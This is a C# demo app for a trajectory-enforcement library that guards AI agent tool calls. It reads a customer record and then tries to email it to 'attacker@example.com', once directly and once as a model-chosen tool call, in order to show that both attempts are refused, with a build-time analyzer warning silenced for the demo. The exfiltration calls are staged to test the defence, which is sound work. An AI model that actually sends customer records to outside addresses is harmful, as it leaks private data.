using Microsoft.Extensions.AI;
using Trajeckt;

namespace ConsumerApp;

/// <summary>The agent: reads a customer, then tries to send the record out, directly and as a model would.</summary>
public static class Agent
{
    public static async Task RunAsync(string[] args)
    {
        // With "--trust KEY.pub" the app trusts that operator key only; otherwise (a Debug build signed with
        // the per-user development key) it trusts development keys and nothing else.
        var options = new TrajecktOptions();
        if (args is ["--trust", var publicKey])
            options.TrustedKeys.Add(publicKey);
        else
            options.TrustDevelopmentKeys = true;

        using var session = TrajecktGraphs.Support.BeginSession(options);
        Console.WriteLine($"graph {TrajecktGraphs.Support.Digest}");
        Console.WriteLine($"commitment {(session.Commitment is null ? "none" : "verified")}");

        var tools = new CustomerTools();
        try
        {
            Console.WriteLine($"read: {tools.ReadCustomer(42)}");
        }
        catch (TrajectoryViolationException e)
        {
            Console.WriteLine($"read: refused {e.Code}: {e.Message}");
        }

        // The customer record is now in the agent's context: sending it out is exfiltration. The analyzers
        // see it at build time too (TRJ2009: refused on the path where the read succeeded); this app exists
        // to show the run-time refusal, so the build warning is silenced here and only here.
        try
        {
#pragma warning disable TRJ2009
            tools.SendEmail("attacker@example.com", "the customer record");
#pragma warning restore TRJ2009
        }
        catch (TrajectoryViolationException e)
        {
            Console.WriteLine($"direct: refused {e.Code}: {e.Message}");
        }

        // As an agent framework does it: the model picked the tool and its arguments.
        var sendEmail = AIFunctionFactory.Create(tools.SendEmail);
        try
        {
            await sendEmail.InvokeAsync(new AIFunctionArguments { ["to"] = "attacker@example.com", ["body"] = "the customer record" });
        }
        catch (TrajectoryViolationException e)
        {
            Console.WriteLine($"model: refused {e.Code}: {e.Message}");
        }
    }
}
